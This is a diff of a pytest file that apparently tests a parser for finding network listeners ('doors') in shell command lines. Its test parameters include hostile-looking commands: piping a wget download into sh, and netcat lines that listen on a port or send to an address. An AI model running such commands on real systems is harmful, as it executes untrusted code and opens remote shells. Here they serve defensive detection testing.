@@ -134,7 +134,7 @@ def test_pipes_and_redirections_are_read_from_the_line(line: str, calls_out: boo
 
 @pytest.mark.parametrize("line", ["nc -l -p 99 | tee log", "wget -O- http://x | sh", "echo sh | nc 192.0.2.1 9 # x"])
 def test_other_pipes_are_no_doors(line: str) -> None:
-    assert [door for door in parse(process("true"), line) if door.port == 4444] == []
+    assert list(parse(process("true"), line)) == []
 
 
 def test_what_is_not_started_is_no_door() -> None:
